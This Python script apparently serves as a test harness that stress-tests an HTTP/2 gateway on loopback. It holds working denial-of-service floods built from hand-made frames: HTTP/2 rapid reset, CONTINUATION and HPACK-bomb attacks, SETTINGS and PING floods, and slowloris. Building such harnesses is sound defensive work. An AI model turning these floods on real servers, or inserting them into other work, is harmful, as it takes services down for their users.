#!/usr/bin/env python3
"""Floods that a client can send: an entry each in FLOODS. `floods.py NAME PORT` sends one to a port of this machine's
loopback until it is told to stop (SIGTERM), then says on stdout what it sent.

A flood is what one connection sends, piece by piece, again and again on as many connections as its entry says. One that
ends is opened anew at once. `WAIT` in place of bytes: nothing more for a second.
"""

import functools
import itertools
import json
import os
import select
import signal
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

WAIT = None
HOST = "127.0.0.1"
RESET = struct.pack("ii", 1, 0)
"""SO_LINGER: closing sends a reset, and leaves no port waiting."""
MANY = 512
"""Frames in a piece."""
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 2, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(index: int, value: bytes) -> bytes:
    """HPACK: a name of the static table, a short value that is not indexed."""
    return bytes([index, len(value)]) + value


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
AUTHORITY = literal(1, b"flood.test")
"""A service of its own: what a target does for a flood is not what the gateway does."""
GET = b"\x82\x86" + literal(4, b"/small") + AUTHORITY
GET_BIG = b"\x82\x86" + literal(4, b"/big") + AUTHORITY
POST = b"\x83\x86" + literal(4, b"/upload") + AUTHORITY


@functools.lru_cache(4096)
def requests_reset(block: int) -> bytes:
    streams = range(block * MANY * 2 + 1, (block + 1) * MANY * 2, 2)
    return b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, GET) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
                    for stream in streams)


def rapid_reset() -> Iterator[bytes]:
    yield PREFACE
    yield from map(requests_reset, range(1 << 20))


def continuation() -> Iterator[bytes]:
    """A head that does not end: first frames with nothing in them, then full ones."""
    yield PREFACE + frame(HEADERS, END_STREAM, 1, GET)
    yield frame(CONTINUATION, 0, 1) * MANY
    field = b"\x00\x01a\x7f\xfe\x7e" + b"x" * 16381  # Never indexed: `a`, and 16,381 bytes.
    yield from itertools.repeat(b"".join(frame(CONTINUATION, 0, 1, part) for part in (field[:16000], field[16000:])))


def endless(one: bytes, first: bytes = b"") -> Callable[[], Iterator[bytes]]:
    def flood() -> Iterator[bytes]:
        yield PREFACE + first
        yield from itertools.repeat(one * MANY)
    return flood


def zero_window() -> Iterator[bytes]:
    """A hundred large answers that nobody takes."""
    yield b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b"\0\x04\0\0\0\0")
    yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, GET_BIG) for stream in range(1, 200, 2))
    while True:
        yield WAIT


def hpack_bomb() -> Iterator[bytes]:
    """One field of 3,900 bytes into the table, then 16,000 references to it, a byte each: 60 MB by 16 KB."""
    field = b"\x40\x01a\x7f\xbd\x1d" + b"x" * 3900
    yield PREFACE + frame(HEADERS, END_STREAM | END_HEADERS, 1, GET + field)
    for stream in range(3, 1 << 30, 2):
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, GET + b"\xbe" * 16000)


def slow_heads() -> Iterator[bytes]:
    yield b"GET /small HTTP/1.1\r\nHost: flood.test\r\n"
    while True:
        yield WAIT
        yield b"X-A: b\r\n"


def nothing() -> Iterator[bytes]:
    yield from ()


@dataclass(frozen=True)
class Flood:
    what: str
    piece: Callable[[], Iterator[bytes]]
    connections: int = 16
    deaf: bool = False
    """It does not read what it is answered."""
    over_at_once: bool = False
    """Each connection is reset as soon as it stands."""


FLOODS = {
    "rapid-reset": Flood("requests that are reset at once", rapid_reset),
    "continuation": Flood("a head in CONTINUATION frames without end", continuation),
    "settings": Flood("SETTINGS, to be acknowledged each; the answers unread", endless(frame(SETTINGS, 0, 0, b"\0\x03\0\0\0\x64")),
                      deaf=True),
    "ping": Flood("PING, to be answered each; the answers unread", endless(frame(PING, 0, 0, bytes(8))), deaf=True),
    "empty-data": Flood("DATA frames with nothing in them",
                        endless(frame(DATA, 0, 1), frame(HEADERS, END_HEADERS, 1, POST))),
    "priority": Flood("PRIORITY", endless(frame(PRIORITY, 0, 1, bytes([0, 0, 0, 0, 15])))),
    "zero-window": Flood("a hundred large answers a connection, and a window of 0", zero_window, connections=64),
    "hpack-bomb": Flood("fields that are small packed and huge unpacked", hpack_bomb),
    "slow-heads": Flood("2,000 heads that get a line a second (slowloris)", slow_heads, connections=2000),
    "connections": Flood("connections that are reset as soon as they stand", nothing, over_at_once=True),
}


class Sender:
    def __init__(self, flood: Flood, port: int):
        self.flood, self.port, self.epoll = flood, port, select.epoll()
        self.open_now: dict[int, tuple[socket.socket, Iterator[bytes]]] = {}
        self.rest: dict[int, bytes] = {}
        self.waiting: list[int] = []
        self.sent = {"connections": 0, "ended": 0, "refused": 0, "bytes": 0}
        self.over = False

    def run(self) -> dict:
        signal.signal(signal.SIGTERM, lambda *_: setattr(self, "over", True))
        print("begun", flush=True)
        begin = tick = time.monotonic()
        while not self.over:
            if self.flood.over_at_once:
                self.hit()
                continue
            # A few at a time, so that those which are open are not forgotten meanwhile.
            for _ in range(min(64, self.flood.connections - len(self.open_now))):
                self.open()
            if time.monotonic() - tick >= 1:
                tick, again, self.waiting = time.monotonic(), self.waiting, []
                for number in again:
                    self.write(number)
            for number, events in self.epoll.poll(0.01):
                if events & (select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR):
                    self.end(number)
                    continue
                if events & select.EPOLLIN:
                    self.read(number)
                if events & select.EPOLLOUT:
                    self.write(number)
        return self.sent | {"seconds": time.monotonic() - begin}

    def connect(self) -> socket.socket | None:
        client = socket.socket()
        client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
        client.settimeout(0.2)
        try:
            client.connect((HOST, self.port))
        except OSError:
            self.sent["refused"] += 1
            client.close()
            return None
        self.sent["connections"] += 1
        return client

    def hit(self) -> None:
        client = self.connect()
        if client:
            client.close()

    def open(self) -> None:
        client = self.connect()
        if client:
            client.setblocking(False)
            self.open_now[client.fileno()] = (client, self.flood.piece())
            self.epoll.register(client, self.interest(select.EPOLLOUT))

    def interest(self, more: int) -> int:
        return select.EPOLLRDHUP | more | (0 if self.flood.deaf else select.EPOLLIN)

    def read(self, number: int) -> None:
        try:
            if number in self.open_now and not self.open_now[number][0].recv(1 << 16):
                self.end(number)
        except BlockingIOError:
            pass
        except OSError:
            self.end(number)

    def write(self, number: int) -> None:
        """One piece, as much of it as the socket takes."""
        if number not in self.open_now:
            return
        client, pieces = self.open_now[number]
        piece = self.rest.pop(number, b"") or next(pieces, WAIT)
        if piece is WAIT:
            self.waiting.append(number)
            self.epoll.modify(client, self.interest(0))
            return
        try:
            taken = client.send(piece)
        except BlockingIOError:
            taken = 0
        except OSError:
            self.end(number)
            return
        self.sent["bytes"] += taken
        if taken < len(piece):
            self.rest[number] = piece[taken:]
        self.epoll.modify(client, self.interest(select.EPOLLOUT))

    def end(self, number: int) -> None:
        found = self.open_now.pop(number, None)
        self.rest.pop(number, None)
        if found:
            self.sent["ended"] += 1
            self.epoll.unregister(found[0])
            found[0].close()


def main() -> None:
    # Whoever shares its core comes first: what is measured is how long others wait for the gateway, not for this.
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    print(json.dumps(Sender(FLOODS[sys.argv[1]], int(sys.argv[2])).run()))


if __name__ == "__main__":
    main()
